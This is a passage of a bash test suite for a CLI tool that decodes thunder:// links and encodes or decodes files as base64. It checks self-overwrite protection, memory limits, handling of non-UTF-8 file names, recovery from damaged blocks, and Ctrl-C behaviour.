done <<'ROWS'
its input appended to#own.txt >>own.txt#the output is the input 'own.txt'
its standard input appended to#<own.txt >>own.txt#the output is the file on standard input
its standard input named, appended to#- <own.txt >>own.txt#the output is the file on standard input
its input written over in place#--to aria2 own.txt 1<>own.txt#the output is the input 'own.txt'
a link to its output#own.link >>own.txt#the output is the input 'own.link'
another name of its output#own.hard >>own.txt#the output is the input 'own.hard'
its output as /dev/stdin#/dev/stdin <own.txt >>own.txt#the output is the input '/dev/stdin'
its output after another input#other.txt own.txt >>own.txt#the output is the input 'own.txt'
ROWS
expect "batch appends to a file that is none of its inputs" 0 \
  $'http://h/other\nhttp://h/a.zip\nhttp://h/b' "" -- \
  bash -c "cd '$work' && cp own.keep own.txt && cp other.txt out.txt && '$cli' batch decode own.txt >>out.txt 2>/dev/null && cat out.txt"
# A device is no file: standard input and output may both be one, as a terminal is.
expect "batch reads and writes one device" 0 "" "0 converted, 0 passed through, 0 failed" -- \
  bash -c "'$cli' batch decode </dev/null >/dev/null"

# A line near the limit (60 MiB) costs a few times its length, not ten, in every form: held once
# as it is read, once as text, once as the result, and the entry written in pieces. The limit
# leaves room above what is needed (about four times) and below what a copy more would take.
if [[ ${MEMORY_LIMITS_APPLY:-1} == 1 ]]; then
  { printf 'http://h/'; head -c $(((60 << 20) - 9)) /dev/zero | tr '\0' a; echo; } >"$work/near-plain.txt"
  { printf 'thunder://'; { printf AAhttp://h/; head -c $((45 << 20)) /dev/zero | tr '\0' a; printf ZZ; } |
    base64 -w0; echo; } >"$work/near-thunder.txt"
  # line kind, form, the bytes of output at least, what the summary says
  while read -r kind form least said; do
    expect "a $kind line near the limit costs about four times itself in $form" 0 "" "1 $said" -- \
      bash -c "ulimit -v $((5 * 60 << 10)); '$cli' batch decode --to $form <'$work/near-$kind.txt' | wc -c | awk '\$1 < $least { exit 1 }'"
  done <<'ROWS'
plain   lines 62914561  passed through
plain   aria2 62914561  passed through
plain   json  125829120 passed through
thunder lines 47185930  converted
thunder aria2 47185930  converted
thunder json  94371860  converted
ROWS
  rm -f "$work/near-plain.txt" "$work/near-thunder.txt"
fi

# Files.
head -c 100000 /dev/urandom >"$work/in"
expect "encode" 0 "" "" -- "$cli" encode-file "$work/in" "$work/enc" --block-size 1000
expect "decode" 0 "" "" -- "$cli" decode-file "$work/enc" "$work/out"
expect "round trip" 0 "" "" -- cmp "$work/in" "$work/out"
expect "options after --" 0 "" "" -- bash -c "cd '$work' && '$cli' encode-file -- in -x && cmp -- -x enc"
expect "missing input" 1 "" "error 90002" -- "$cli" encode-file "$work/absent" "$work/x"
expect "input is a folder" 1 "" "error 75: cannot open the input file '$work'" -- "$cli" encode-file "$work" "$work/x"
expect "input from a pipe" 1 "" "error 75" -- bash -c "echo YWJj | '$cli' decode-file /dev/stdin '$work/x'"
if ((windows)); then
  skip "input behind a file: Wine reports a missing folder as a missing file"
else
  expect "input behind a file" 1 "" "error 76" -- "$cli" encode-file "$work/in/x" "$work/x"
fi
expect "input says it is empty" 1 "" "error 75" -- "$cli" encode-file /proc/self/status "$work/x"
expect "disk full" 1 "" "error 61" -- "$cli" encode-file "$work/in" /dev/full
truth "failed runs create nothing" test ! -e "$work/x"

cp "$work/enc" "$work/enc.keep"
ln -s enc "$work/enc.link"
for pair in "enc enc" "enc ./enc" "enc enc.link" "./enc.link ../$(basename "$work")/enc"; do
  read -r a b <<<"$pair"
  for command in encode-file decode-file; do
    expect "$command $a $b" 1 "" "the same file" -- bash -c "cd '$work' && '$cli' $command $a $b"
  done
done
truth "same file left whole" cmp "$work/enc" "$work/enc.keep"

# Chinese names in and out, and named in messages as they were given.
printf '下载地址' >"$work/链接.txt"
expect "Chinese names" 0 "" "" -- "$cli" encode-file "$work/链接.txt" "$work/编码后.b64"
truth "Chinese-named output" test "$(cat "$work/编码后.b64")" = 5LiL6L295Zyw5Z2A
expect "Chinese names back" 0 "" "" -- "$cli" decode-file "$work/编码后.b64" "$work/还原.txt"
truth "Chinese-named round trip" cmp "$work/链接.txt" "$work/还原.txt"
expect "Chinese name in a message" 1 "" "$work/没有.txt" -- "$cli" encode-file "$work/没有.txt" "$work/x"
printf 'thunder://QUFodHRwOi8vYS9iWlo=\n' >"$work/列表.txt"
expect "Chinese-named list" 0 "http://a/b" "" -- "$cli" batch decode "$work/列表.txt"

# Names that are not UTF-8 reach the very files named (where names are bytes).
if ((windows)); then
  skip "names that are not UTF-8: Windows names are UTF-16"
else
  gbk=$'\xd6\xd0\xce\xc4.bin' odd=$'\xff\xfe.b64' lookalike=$'\xef\xbf\xbd\xef\xbf\xbd.b64'
  printf abc >"$work/$gbk"
  printf 'keep me' >"$work/$lookalike"
  expect "gbk-named input" 0 "" "" -- "$cli" encode-file "$work/$gbk" "$work/$odd"
  truth "odd-named output" test "$(cat "$work/$odd")" = YWJj
  truth "look-alike untouched" test "$(cat "$work/$lookalike")" = "keep me"
  expect "name given exactly" 1 "" "opened: $work/"$'\xff'"missing" -- "$cli" encode-file "$work/"$'\xff'missing "$work/x"
  # A byte that starts no UTF-8 character stays that byte: F5 80 80 is not 倀 (E5 80 80), and
  # the GBK name 鳌啊.txt (F7 A1 B0 A1) is not E7 A1 B0 A1. Each run writes the name given and
  # leaves the look-alike as it was.
  names=($'\xf5\x80\x80' $'\xf7\xa1\xb0\xa1.txt') lookalikes=($'\xe5\x80\x80' $'\xe7\xa1\xb0\xa1.txt')
  printf abc >"$work/abc.bin"
  printf 'YWJj\n' >"$work/abc.b64"
  for i in 0 1; do
    shown=$(printf %s "${names[i]}" | od -An -tx1 | tr -d ' \n')
    for command in encode-file decode-file; do
      dir="$work/names-$command-$i"
      mkdir "$dir"
      printf 'keep me' >"$dir/${lookalikes[i]}"
      if [[ $command == encode-file ]]; then input=abc.bin expected=YWJj; else input=abc.b64 expected=abc; fi
      expect "$command to the name $shown" 0 "" "" -- "$cli" $command "$work/$input" "$dir/${names[i]}"
      truth "$command to $shown wrote those bytes' name" test "$(cat "$dir/${names[i]}")" = "$expected"
      truth "$command to $shown left its look-alike" test "$(cat "$dir/${lookalikes[i]}")" = "keep me"
      truth "$command to $shown made no other file" test "$(find "$dir" -type f | wc -l)" = 2
    done
    expect "decode-file from the name $shown" 0 "" "" -- \
      "$cli" decode-file "$work/names-encode-file-$i/${names[i]}" "$work/names-back-$i"
    truth "decode-file from $shown read that file" test "$(cat "$work/names-back-$i")" = abc
  done
fi

# One damaged character in GNU's layout costs one block, and says which.
head -c 300000 /dev/urandom >"$work/gnu.bin"
base64 "$work/gnu.bin" >"$work/gnu.b64"
printf '!' | dd of="$work/gnu.b64" bs=1 seek=200000 conv=notrunc status=none
blocks=$((($(stat -c %s "$work/gnu.b64") + 583) / 584))
expect "damaged block skipped" 1 "" "1 of $blocks blocks could not be decoded" -- \
  "$cli" decode-file "$work/gnu.b64" "$work/gnu.out" --block-size 584
expect "damaged block named" 1 "" "block $((200000 / 584 + 1)) of $blocks cannot" -- \
  "$cli" decode-file "$work/gnu.b64" "$work/gnu.out" --block-size 584
# Every byte after the damaged block is the original's, at its new place.
truth "in step after the damage" cmp <(tail -c 140000 "$work/gnu.bin") <(tail -c 140000 "$work/gnu.out")
truth "in step before the damage" cmp <(head -c 140000 "$work/gnu.bin") <(head -c 140000 "$work/gnu.out")

# A terminal: the bar's line ends before any message, and is not redrawn for every block. Some
# places (a chroot without /dev/pts) have no pseudo-terminal to give: there the checks are
# skipped, and say so.
printf '!' | dd of="$work/gnu.b64" bs=1 seek=1000 conv=notrunc status=none
truncate -s 20M "$work/sparse"
if ((windows)); then
  skip "the progress bar's checks: a pseudo-terminal is no Windows console"
elif pty_failure=$(script -qec true /dev/null 2>&1 </dev/null) && [[ -z $pty_failure ]]; then
  script -qec "'$cli' decode-file '$work/gnu.b64' '$work/gnu.out' --block-size 584" /dev/null \
    >"$work/tty" </dev/null
  truth "message on a line of its own" grep -q $'^zentrova-cli: error 5' <(tr '\r' '\n' <"$work/tty")
  script -qec "'$cli' encode-file '$work/sparse' '$work/sparse.b64' --block-size 54" /dev/null \
    >"$work/tty" </dev/null
  truth "bar drawn at most ten times a second" test "$(wc -c <"$work/tty")" -lt 1000000
else
  echo "SKIP the progress bar's checks: no pseudo-terminal can be had here (${pty_failure:-script failed})"
fi

# Ctrl-C as a person presses it: the program runs in a terminal of its own, in its foreground,
# with SIGINT at its default (a background job here would start with it ignored), and the
# terminal's Ctrl-C is typed once the run has got where it should be.
#   interrupt NAME READY MESSAGE -- COMMAND...   READY: a shell test, $pid the program's process
patience=${ZENTROVA_PATIENCE:-60}
sleeping() { [[ $(ps -o stat= -p "$1" 2>/dev/null) == S* ]]; }
# The program itself (not the shell or the terminal's harness before it) waits in the system.
waiting() { [[ $(readlink "/proc/$1/exe") == "$(realpath "$cli")" ]] && sleeping "$1"; }
source "$(dirname "${BASH_SOURCE[0]}")/../support/ctrl_c.sh"
interrupt() {
  local name=$1 ready=$2 message=$3
  shift 4
  press_ctrl_c "$ready" "$work/stderr" -- "$@"
  local status=$?
  if ((ctrl_c_pressed)) && [[ $status == 130 && $(cat "$work/stderr") == *"$message"* ]]; then
    passed=$((passed + 1))
  else
    failed=$((failed + 1))
    local pressed="pressed"
    ((ctrl_c_pressed)) || pressed="never pressed: not ready"
    echo "FAIL $name: Ctrl-C $pressed, status $status, stderr '$(cat "$work/stderr")'"
  fi
}
if ((windows)); then
  skip "Ctrl-C: Wine gives a program started from here no console to press it in"
elif ! python3 -c 'import os; os.openpty()' 2>/dev/null; then
  skip "Ctrl-C: no pseudo-terminal can be had here"
else
  # A file run over a sparse file stops at the next block and says so.
  truncate -s 20G "$work/big"
  interrupt "ctrl-c between blocks" '[[ -s $work/big.b64 ]]' "holds the first" -- \
    "$cli" encode-file "$work/big" "$work/big.b64" --block-size 54
  mkfifo "$work/fifo"
  interrupt "ctrl-c while opening a pipe" 'waiting $pid' "cancelled" -- \
    "$cli" encode-file "$work/in" "$work/fifo"
  exec 3<>"$work/fifo"  # a reader that never reads: the first write blocks
  interrupt "ctrl-c in a blocked write" 'waiting $pid' "cancelled" -- \
    "$cli" encode-file "$work/big" "$work/fifo"
  exec 3<&-
  rm -f "$work/big" "$work/big.b64"

  # A list typed or piped into batch, its results to a file: at Ctrl-C every line read so far
  # has its result in the file, the summary is said, and the status is 130. The input never
  # ends (this shell holds the pipe open), so the run waits for more when the key is pressed.
  # Few results are all still in the program's buffer; many have partly left it already.
  mkfifo "$work/list.fifo"
  for lines in 14 1500; do
    if ((lines == 14)); then
      kind=decode
      { for i in $(seq 12); do echo "下载 $(q "http://h/$i.zip")"; done; echo http://h/plain; echo 谢谢; } \
        >"$work/typed.txt"
      summary="12 converted, 1 passed through, 1 failed"
      ready='waiting $pid'
    else
      kind=thunder
      seq -f 'http://h/%031g.zip' "$lines" >"$work/typed.txt"
      summary="$lines converted, 0 passed through, 0 failed"
      ready='[[ -s $work/typed.out ]] && waiting $pid'  # the file has grown: some have left
    fi
    "$cli" batch $kind "$work/typed.txt" >"$work/typed.expected" 2>/dev/null
    exec {writer}<>"$work/list.fifo"
    cat "$work/typed.txt" >&$writer &
    interrupt "ctrl-c on batch to a file, $lines lines: summary said" "$ready" "$summary" -- \
      sh -c "exec '$cli' batch $kind <'$work/list.fifo' >'$work/typed.out'"
    truth "ctrl-c on batch to a file, $lines lines: said it was cancelled" \
      grep -q "cancelled after $lines lines" "$work/stderr"
    truth "ctrl-c on batch to a file, $lines lines: every result kept" \
      cmp "$work/typed.expected" "$work/typed.out"
    wait
    exec {writer}>&-
  done
fi

echo "$passed passed, $failed failed"
[[ $failed == 0 ]]
